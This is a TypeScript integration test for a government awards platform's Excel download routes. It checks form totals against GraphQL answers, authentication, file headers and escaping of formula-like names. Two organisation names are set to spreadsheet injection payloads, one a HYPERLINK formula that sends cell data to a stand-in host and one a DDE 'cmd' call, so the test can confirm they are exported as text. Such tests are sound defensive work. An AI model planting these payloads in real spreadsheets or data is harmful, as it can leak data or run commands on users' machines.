/**
 * The gateway's file downloads over real HTTP (`/files/...`): statistical forms 0601–0605 of
 * Thông tư 02/2023/TT-BNV and a bloc's ranking and scorecards, parsed back with ExcelJS.
 *
 * - Every number cell of forms 0601–0603 equals the GraphQL answer for the same filter (the file is
 *   built from the same operation through the gateway, so they cannot disagree: this checks it).
 * - 0604 and 0605 say on the form, row by row, why the platform cannot fill them.
 * - The routes are authenticated like /graphql: a bad token is 401; scorecards (members' working data)
 *   ask the public to sign in (401) and refuse an officer outside the bloc (403).
 * - Names that look like formulas (`=HYPERLINK(…)`, `=cmd|…`) come out as text, never as a formula.
 * - Attachment, exact MIME type, nosniff, an RFC 5987 Vietnamese file name.
 *
 * One in-process platform (demo data: a closed 2024 pledge of the Nội chính bloc with verified
 * scorecards, and movements) behind one gateway of this file's own on loopback.
 */
import { mkdtempSync, rmSync } from 'node:fs';
import type { Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { findAwardType } from '@tdkt/awards';
import {
  DEV_ISSUER,
  createCallerVerifier,
  issueCallerToken,
  loadOrCreateDevKeys,
  type DevKeys,
  type Role,
} from '@tdkt/identity';
import { createGatewayApp, fetchTransport, type GatewayApp } from '@tdkt/gateway';
import { committedSupergraph } from '@tdkt/scripts';
import { startInProcess, type InProcessStack } from '../support/in-process';
import { contractOperation } from '../support/operations';

let stack: InProcessStack;
let gateway: GatewayApp;
let server: Server;
let base: string;
let keys: DevKeys;
let keyDir: string;
let board: string;

const HYPERLINK = '=HYPERLINK("http://x.invalid/?d="&A1,"Bấm vào đây")';
const CMD = "=cmd|' /C calc'!A0";

const token = (role: Role, org?: string) =>
  issueCallerToken(keys.privateJwk, { role, org: org ?? null, expiresIn: '10m' });

async function gql(query: string, variables: Record<string, unknown> = {}, bearer = board): Promise<any> {
  const response = await fetch(`${base}/graphql`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', authorization: `Bearer ${bearer}` },
    body: JSON.stringify({ query, variables }),
  });
  const body = (await response.json()) as { data?: any; errors?: unknown[] };
  if (body.errors) throw new Error(JSON.stringify(body.errors));
  return body.data;
}

async function download(pathname: string, bearer?: string): Promise<Response> {
  return fetch(`${base}${pathname}`, { headers: bearer ? { authorization: `Bearer ${bearer}` } : {} });
}

async function workbookOf(response: Response): Promise<ExcelJS.Workbook> {
  expect(response.status).toBe(200);
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(Buffer.from(await response.arrayBuffer()) as never);
  return workbook;
}

/** Every cell of every sheet, for what must hold of all of them. */
function allCells(workbook: ExcelJS.Workbook): ExcelJS.Cell[] {
  const cells: ExcelJS.Cell[] = [];
  workbook.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => cells.push(cell))));
  return cells;
}

/** The form's rows by code: column D (tổng số) and the value columns after it, as the file holds them. */
function formRows(sheet: ExcelJS.Worksheet): Map<string, { total: unknown; values: unknown[]; note: unknown }> {
  let numbering = 0;
  sheet.eachRow((row, index) => {
    if (!numbering && row.getCell(1).value === 'A' && row.getCell(2).value === 'B') numbering = index;
  });
  expect(numbering).toBeGreaterThan(0);
  const width = sheet.getRow(numbering).cellCount;
  const hasNotes = sheet.getRow(numbering).getCell(width).value === 'D';
  const rows = new Map<string, { total: unknown; values: unknown[]; note: unknown }>();
  for (let index = numbering + 1; ; index++) {
    const row = sheet.getRow(index);
    const code = row.getCell(2).value;
    if (typeof code !== 'string' || !code) break;
    const values: unknown[] = [];
    for (let column = 5; column <= width - (hasNotes ? 1 : 0); column++) values.push(row.getCell(column).value ?? null);
    rows.set(code, { total: row.getCell(4).value ?? null, values, note: hasNotes ? row.getCell(width).value : null });
  }
  return rows;
}

const AWARD_FORM = (field: string) => `query($filter: AwardFormFilter!) {
  form: ${field}(filter: $filter) { form rows { code available total values } }
}`;
const MOVEMENT_FORM = `query($filter: MovementFormFilter!) {
  form: statisticalForm0601(filter: $filter) { form rows { code total values } }
}`;

async function importGrant(personId: string, awardTypeCode: string, decision: number): Promise<void> {
  const issuer: Record<string, string> = { PRESIDENT: 'CTN', PRIME_MINISTER: 'CP', MINISTRY_OR_PROVINCE_HEAD: 'BTP' };
  const result = await gql(contractOperation('ImportGrants'), {
    input: {
      grants: [
        {
          personId,
          awardTypeCode,
          year: 2024,
          basis: 'MERIT',
          decisionNumber: `${decision}/QĐ-XLSX`,
          issuedOn: '2025-02-01',
          issuerCode: issuer[findAwardType(awardTypeCode)!.decidingAuthority],
        },
      ],
    },
  });
  expect(result.importGrants).toEqual({ imported: 1, skipped: 0, errors: [] });
}

async function rename(code: string, name: string): Promise<void> {
  const { organization } = await gql(`query($code: String!) { organization(code: $code) { version } }`, { code });
  await gql(`mutation($input: UpdateOrganizationInput!) { updateOrganization(input: $input) { name } }`, {
    input: { code, expectedVersion: organization.version, name },
  });
}

beforeAll(async () => {
  stack = await startInProcess({ demo: true });
  keyDir = mkdtempSync(path.join(tmpdir(), 'tdkt-forms-keys-'));
  keys = await loadOrCreateDevKeys(keyDir);
  gateway = await createGatewayApp({
    supergraphSdl: committedSupergraph(),
    subgraphUrls: Object.fromEntries(Object.values(stack.subgraphs).map((s) => [s.name, s.url])),
    callerVerifier: createCallerVerifier({ issuer: DEV_ISSUER, jwks: { keys: [keys.publicJwk] } }),
    // The in-process subgraphs trust the stack's internal key: sign with it.
    internalSigner: { sign: (caller) => stack.internalToken(caller) },
    subgraphTransport: fetchTransport,
    dashboardDir: null,
  });
  server = await new Promise<Server>((resolve) => {
    const listening = gateway.app.listen(0, '127.0.0.1', () => resolve(listening));
  });
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  board = await token('CENTRAL_BOARD');

  const { createPerson } = await gql(contractOperation('CreatePerson'), {
    input: {
      fullName: 'Nguyễn Thị Biểu',
      gender: 'FEMALE',
      birthYear: 1980,
      ethnicity: 'Kinh',
      organizationCode: 'BTP',
      isDirectWorker: false,
    },
  });
  let decision = 0;
  for (const code of ['HC_LAO_DONG_3', 'BANG_KHEN_TTG', 'BANG_KHEN_BO_TINH', 'CSTD_BO_TINH'])
    await importGrant(createPerson.id, code, ++decision);
  // Two members of the Nội chính bloc get names that a spreadsheet would run as formulas.
  await rename('BQP', HYPERLINK);
  await rename('BCA', CMD);
});

afterAll(async () => {
  server?.closeAllConnections();
  server?.close();
  await gateway?.apollo.stop();
  gateway?.stop();
  await stack?.stop();
  if (keyDir) rmSync(keyDir, { recursive: true, force: true });
});

describe.each([
  ['0601', '', MOVEMENT_FORM, { yearFrom: 2020, yearTo: 2026 }],
  ['0602', '', AWARD_FORM('statisticalForm0602'), { yearFrom: 2024, yearTo: 2024 }],
  ['0603', '', AWARD_FORM('statisticalForm0603'), { yearFrom: 2024, yearTo: 2024 }],
  [
    '0602',
    '&organizationCode=BTP',
    AWARD_FORM('statisticalForm0602'),
    { yearFrom: 2024, yearTo: 2024, organizationCode: 'BTP' },
  ],
  [
    '0603',
    '&blocCode=NOI_CHINH_TW',
    AWARD_FORM('statisticalForm0603'),
    { yearFrom: 2024, yearTo: 2024, blocCode: 'NOI_CHINH_TW' },
  ],
])('form %s%s', (form, scope, document, filter) => {
  it('downloads for the public as an attachment whose every number is the GraphQL answer', async () => {
    const years = `yearFrom=${filter.yearFrom}&yearTo=${filter.yearTo}`;
    const response = await download(`/files/forms/${form}.xlsx?${years}${scope}`);
    expect(response.headers.get('content-type')).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
    const disposition = response.headers.get('content-disposition')!;
    expect(disposition).toMatch(
      /^attachment; filename="[\x20-\x7e]+\.xlsx"; filename\*=UTF-8''[A-Za-z0-9%._-]+\.xlsx$/,
    );
    expect(decodeURIComponent(disposition.split("UTF-8''")[1]!)).toContain(`Biểu ${form}.N-BNV-TĐKT`);
    const workbook = await workbookOf(response);

    const answer = (await gql(document, { filter })).form;
    const sheet = workbook.worksheets[0]!;
    expect(sheet.getCell(1, 1).value).toBe(`Biểu số: ${answer.form}`);
    const rows = formRows(sheet);
    expect([...rows.keys()]).toEqual(answer.rows.map((row: any) => row.code));
    let nonZero = 0;
    for (const row of answer.rows) {
      const cells = rows.get(row.code)!;
      expect({ code: row.code, total: cells.total, values: cells.values }).toEqual({
        code: row.code,
        total: row.total,
        values: row.values,
      });
      nonZero += row.values.filter((value: number | null) => value).length;
    }
    // The comparison means something only if the data put numbers on the form.
    expect(nonZero).toBeGreaterThan(0);
    const texts = allCells(workbook).map((cell) => String(cell.value));
    expect(texts).toContain('THỦ TRƯỞNG ĐƠN VỊ');
    expect(texts.some((value) => value.startsWith('Đơn vị báo cáo:'))).toBe(true);
  });
});

it.each(['0604', '0605'])('form %s says on every row why the platform cannot fill it', async (form) => {
  const workbook = await workbookOf(await download(`/files/forms/${form}.xlsx?year=2024&organizationCode=BTP`));
  const rows = formRows(workbook.worksheets[0]!);
  expect(rows.size).toBeGreaterThan(3);
  for (const row of rows.values()) {
    expect(row.total).toBeNull();
    expect(row.values.every((value) => value === null)).toBe(true);
    expect(String(row.note)).toMatch(/^(Chưa lập được|Như dòng)/);
  }
  const texts = allCells(workbook).map((cell) => String(cell.value));
  expect(texts.some((value) => value.includes('Biểu này chưa có số liệu'))).toBe(true);
  expect(texts.some((value) => value.startsWith('Đơn vị báo cáo: Bộ Tư pháp'))).toBe(true);
});

it('writes names that look like formulas as text in the public ranking', async () => {
  const workbook = await workbookOf(await download('/files/blocs/NOI_CHINH_TW/2024/ranking.xlsx'));
  const cells = allCells(workbook);
  expect(cells.filter((cell) => cell.type === ExcelJS.ValueType.Formula || cell.formula)).toEqual([]);
  const names = cells.map((cell) => cell.value);
  expect(names).toContain(`'${HYPERLINK}`);
  expect(names).toContain(`'${CMD}`);
  expect(names.filter((value) => typeof value === 'string' && /^[=+\-@\t]/.test(value))).toEqual([]);

  const { bloc } = await gql(
    `{ bloc(code: "NOI_CHINH_TW") { pledge(year: 2024) { ranking { rank totalScore organization { code } } } } }`,
    {},
  );
  const sheet = workbook.getWorksheet('Xếp hạng')!;
  const ranked: unknown[] = [];
  sheet.eachRow((row, index) => {
    if (index > 5 && typeof row.getCell(1).value === 'number')
      ranked.push({
        rank: row.getCell(1).value,
        totalScore: row.getCell(4).value,
        organization: { code: row.getCell(2).value },
      });
  });
  expect(ranked).toEqual(bloc.pledge.ranking);
});

describe('scorecards', () => {
  const url = '/files/blocs/NOI_CHINH_TW/2024/scorecards.xlsx';

  it('ask the public to sign in, and refuse an officer outside the bloc', async () => {
    const anonymous = await download(url);
    expect(anonymous.status).toBe(401);
    expect(anonymous.headers.get('www-authenticate')).toBe('Bearer');
    expect(((await anonymous.json()) as any).errors[0].extensions.code).toBe('UNAUTHENTICATED');

    const outsider = await download(url, await token('ORG_OFFICER', 'HN'));
    expect(outsider.status).toBe(403);
    const body = (await outsider.json()) as any;
    expect(body.errors[0].extensions.code).toBe('FORBIDDEN');
    expect(outsider.headers.get('content-type')).toMatch(/^application\/json/);

    const forged = await download(url, 'not.a.token');
    expect(forged.status).toBe(401);
  });

  it('give a member officer every verified total of the GraphQL answer', async () => {
    const officer = await token('ORG_OFFICER', 'BTP');
    const workbook = await workbookOf(await download(url, officer));
    const { bloc } = await gql(
      `{ bloc(code: "NOI_CHINH_TW") { pledge(year: 2024) { scorecards(stage: VERIFIED) { totalScore organization { code } } } } }`,
      {},
      officer,
    );
    const sheet = workbook.getWorksheet('Phiếu chấm điểm')!;
    const width = sheet.getRow(5).cellCount;
    const verified: Record<string, unknown> = {};
    sheet.eachRow((row, index) => {
      if (index > 5 && row.getCell(3).value === 'Khối thẩm định')
        verified[String(row.getCell(1).value)] = row.getCell(width).value;
    });
    expect(Object.keys(verified).length).toBeGreaterThan(0);
    expect(verified).toEqual(
      Object.fromEntries(bloc.pledge.scorecards.map((card: any) => [card.organization.code, card.totalScore])),
    );
  });
});

it('answers unknown forms and paths under /files with a JSON 404, and a bad year with 400', async () => {
  for (const pathname of [
    '/files/forms/0609.xlsx?year=2024',
    '/files/khong-co',
    '/files/blocs/NOI_CHINH_TW/2024/x.xlsx',
  ]) {
    const response = await download(pathname);
    expect({ pathname, status: response.status }).toEqual({ pathname, status: 404 });
    expect(response.headers.get('content-type')).toMatch(/^application\/json/);
  }
  const bad = await download('/files/forms/0602.xlsx?year=20x4');
  expect(bad.status).toBe(400);
  expect(((await bad.json()) as any).errors[0].message).toContain('year');
});
